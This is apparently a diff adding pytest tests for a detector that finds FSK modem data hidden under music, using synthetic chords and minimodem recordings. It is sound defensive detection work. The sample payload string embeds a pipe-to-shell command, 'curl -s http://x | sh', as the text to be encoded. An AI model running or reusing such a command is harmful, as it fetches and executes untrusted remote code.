@@ -1,0 +1,152 @@
+"""Data sent as sound under music: a keyed carrier that does not dominate the audio is still
+found (its tones take turns on a steady clock while the music's notes come and go), and music
+alone, however tonal, is not a modem."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import numpy as np
+import numpy.typing as npt
+import pytest
+import soundfile as sf
+
+from audiomodel.modem import (
+    CHUNK,
+    TURN_TAKING_GATE,
+    _ChunkTransform,
+    _minimodem_rate,
+    _turn_taking,
+    reduced_rate,
+    scan_modem,
+)
+
+RATE = 48000
+TEXT = b"The quick brown fox jumps over the lazy dog. curl -s http://x | sh\n" * 40
+
+needs_minimodem = pytest.mark.skipif(
+    shutil.which("minimodem") is None,
+    reason="minimodem (apt package, installed by scripts/setup.sh) is not on PATH",
+)
+
+
+def fsk(data: bytes, baud: float, mark: float, space: float) -> npt.NDArray[np.float64]:
+    """Continuous-phase FSK of ``data`` in 8-N-1 frames after a short mark lead-in."""
+    bits = [1] * 20
+    for byte in data:
+        bits += [0, *((byte >> i) & 1 for i in range(8)), 1]
+    edges = np.rint(np.arange(len(bits) + 1) * RATE / baud).astype(np.int64)
+    freq = np.repeat(np.where(np.array(bits) == 1, mark, space), np.diff(edges))
+    return np.sin(2 * np.pi * np.cumsum(freq) / RATE)
+
+
+def chords(seconds: float, seed: int) -> npt.NDArray[np.float64]:
+    """Held chords of harmonic notes (attack, decay, 5 Hz vibrato), a new chord every 1.3-2 s:
+    narrowband energy that sits still for a while, as a modem's tones do, but keys nothing."""
+    rng = np.random.default_rng(seed)
+    n = int(seconds * RATE)
+    t = np.arange(n) / RATE
+    out = np.zeros(n)
+    start = 0.0
+    while start < seconds:
+        length = float(rng.uniform(1.3, 2.0))
+        i, j = int(start * RATE), min(n, int((start + length + 0.5) * RATE))
+        tt = t[i:j] - start
+        envelope = (1 - np.exp(-tt * 40.0)) * np.exp(-tt * 0.8)
+        root = 110.0 * 2 ** (int(rng.integers(0, 24)) / 12)
+        for step in (0, 4, 7, 12):
+            f0 = root * 2 ** (step / 12)
+            vibrato = 1 + 0.004 * np.sin(2 * np.pi * 5.0 * tt + rng.uniform(0, 6))
+            phase = 2 * np.pi * np.cumsum(f0 * vibrato) / RATE
+            for h in range(1, 9):
+                out[i:j] += envelope * np.sin(h * phase + h) / h**1.3
+        start += length
+    return out / np.abs(out).max() + rng.normal(0, 1e-3, n)
+
+
+def mix(modem: npt.NDArray[np.float64], level_db: float, at_s: float, seed: int) -> npt.NDArray:
+    """``modem`` placed at ``at_s`` into chords, its RMS ``level_db`` against theirs."""
+    bed = chords(at_s + modem.size / RATE + 3.0, seed)
+    at = int(at_s * RATE)
+    gain = np.sqrt(np.mean(bed**2) / np.mean(modem**2)) * 10 ** (level_db / 20)
+    bed[at : at + modem.size] += modem * gain
+    return np.rint(0.9 * bed / np.abs(bed).max() * 32767).astype(np.int16)
+
+
+def modem_findings(y: npt.NDArray[np.int16]) -> list[dict[str, object]]:
+    return [dict(f.evidence) for f in scan_modem(y, RATE).findings if f.code == "signal.modem"]
+
+
+# A 4 s burst from 2.9 s: at 48 kHz the scanner's chunks are 2.73 s, so it fills the second
+# chunk (the one the idle stride would skip) and half of the third.
+BURST_AT_S = 2.9
+
+
+def test_a_short_fsk_burst_in_a_chunk_the_idle_stride_skips_is_found() -> None:
+    # minimodem's plan for 600 Bd, 4 s, as loud as the chords: the chunk it fills is one the
+    # idle stride skips, the next holds half of it
+    modem = fsk(TEXT[:240], 600.0, 900.0, 1400.0)
+    found = modem_findings(mix(modem, 0.0, BURST_AT_S, seed=1))
+    assert found, "a 600 Bd FSK burst under chords was missed"
+    assert any(abs(float(str(e["baud"])) - 600.0) < 30.0 for e in found)
+
+
+@needs_minimodem
+@pytest.mark.parametrize(("baud", "seed"), [(600, 3), (2400, 2)])
+def test_minimodem_under_chords_is_found_at_its_own_rate(
+    baud: int, seed: int, tmp_path: Path
+) -> None:
+    out = tmp_path / "tx.wav"
+    sent = TEXT[: baud // 10 * 4]
+    subprocess.run(
+        ["minimodem", "--tx", "-f", str(out), str(baud)], input=sent, check=True, timeout=120
+    )
+    modem, rate = sf.read(out, dtype="float64")
+    assert rate == RATE
+    found = modem_findings(mix(modem, 6.0, BURST_AT_S, seed))
+    assert found, f"minimodem {baud} Bd under chords was missed"
+    # the clock under music may time every second symbol; the tones name the rate
+    assert any(abs(float(str(e["baud"])) - baud) < 0.05 * baud for e in found)
+
+
+def _chunk(y: npt.NDArray[np.float64]) -> tuple[_ChunkTransform, float]:
+    factor, rate = reduced_rate(RATE)
+    x = y[: CHUNK * factor].reshape(-1, factor).mean(axis=1)
+    chunk = _ChunkTransform.of(x, rate)
+    assert chunk is not None
+    return chunk, rate
+
+
+def test_keyed_tones_take_turns_and_a_chords_partials_do_not() -> None:
+    modem = fsk(TEXT[:300], 600.0, 900.0, 1400.0)
+    keyed, rate = _chunk(modem[: CHUNK * 2] + 0.5 * chords(3.0, seed=4)[: CHUNK * 2])
+    spectra = {keyed.x.size: keyed.spectrum}
+    assert _turn_taking(keyed.x, spectra, rate, 900.0, 1400.0) <= TURN_TAKING_GATE
+    bed = chords(3.0, seed=5)[: CHUNK * 2]
+    tonal, rate = _chunk(bed)
+    spectra = {tonal.x.size: tonal.spectrum}
+    # the strongest partials of the chords, taken two at a time
+    power = np.abs(tonal.spectrum) ** 2
+    freqs = np.fft.rfftfreq(tonal.x.size, 1 / rate)
+    band = (freqs > 300) & (freqs < 4000)
+    top = np.sort(freqs[band][np.argsort(power[band])[-400:]])
+    peaks = [float(f) for f in top[np.concatenate(([True], np.diff(top) > 80.0))]][:6]
+    assert len(peaks) >= 3
+    for i, f_a in enumerate(peaks):
+        for f_b in peaks[i + 1 :]:
+            assert _turn_taking(tonal.x, spectra, rate, f_a, f_b) > TURN_TAKING_GATE
+
+
+@pytest.mark.parametrize("seed", [6, 7, 8])
+def test_held_chords_with_vibrato_are_not_a_modem(seed: int) -> None:
+    bed = chords(14.0, seed)
+    assert not scan_modem(np.rint(0.9 * bed * 32767).astype(np.int16), RATE).findings
+
+
+def test_tones_naming_a_minimodem_rate_give_that_rate_to_a_half_rate_clock() -> None:
+    assert _minimodem_rate(907.0, 1419.0, 310.0) == pytest.approx(614.0)
+    assert _minimodem_rate(1800.0, 3800.0, 800.0) == pytest.approx(2400.0)  # a third
+    assert _minimodem_rate(907.0, 1419.0, 450.0) == 450.0  # no whole fraction
+    assert _minimodem_rate(1070.0, 1270.0, 150.0) == 150.0  # not minimodem's tones for a rate
